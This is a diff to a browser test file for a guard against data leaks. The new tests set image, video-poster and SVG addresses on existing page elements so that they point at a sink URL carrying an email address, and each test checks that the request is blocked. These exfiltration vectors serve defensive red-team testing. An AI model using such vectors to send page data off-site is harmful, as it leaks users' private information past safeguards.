@@ -7,6 +7,9 @@
 // - False refusals: a CDN picture whose file name is a slug of the page's title loads (a run of the
 //   page's text in a query is still refused), and markup with one off-site picture carrying the
 //   data goes in without that picture's address, the rest of it whole.
+// - Addresses set on elements already in the page by a way the guard did not watch: a video's
+//   poster, an image input's src, an SVG image's href (setAttribute and setAttributeNS), an
+//   attribute node's value.
 import { expect } from '@open-wc/testing';
 import { attack, createSink, says, type Sink } from './support/red-team.js';
 
@@ -121,4 +124,25 @@ describe('what the boundary must let through', function () {
     expect(gallery?.querySelector('#cdn')?.getAttribute('src')).to.include('/large/cover.jpg');
     expect(gallery?.querySelector('#spy')?.hasAttribute('src'), 'the spy picture has no address').to.equal(false);
   });
+});
+
+describe('load addresses set on elements already in the page', function () {
+  this.timeout(20_000);
+  const data = () => sink.url('/p.gif?e=ada@example.com');
+  const xlink = 'http://www.w3.org/1999/xlink';
+  const FORMS: Array<[string, string, () => void]> = [
+    ["a video's poster property", '<video id="v" width="20" height="20"></video>', () => ((document.querySelector('#v') as HTMLVideoElement).poster = data())],
+    ["a video's poster attribute", '<video id="v" width="20" height="20"></video>', () => document.querySelector('#v')!.setAttribute('poster', data())],
+    ["an image input's src", '<input id="i" type="image" alt="Go">', () => ((document.querySelector('#i') as HTMLInputElement).src = data())],
+    ["an SVG image's href attribute", '<svg width="20" height="20"><image id="g" width="20" height="20"></image></svg>', () => document.querySelector('#g')!.setAttribute('href', data())],
+    ["an SVG image's xlink:href, set with setAttributeNS", '<svg width="20" height="20"><image id="g" width="20" height="20"></image></svg>', () => document.querySelector('#g')!.setAttributeNS(xlink, 'xlink:href', data())],
+    ["an image's src attribute node, its value set", '<img id="m" alt="" src="/favicon.ico">', () => (document.querySelector('#m')!.getAttributeNode('src')!.value = data())],
+  ];
+  for (const [name, markup, send] of FORMS) {
+    it(name, async () => {
+      const run = await attack({ page: `${page}${markup}`, setup: onSave(send) });
+      expect(await sink.received(500), 'what reached the other site').to.deep.equal([]);
+      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    });
+  }
 });
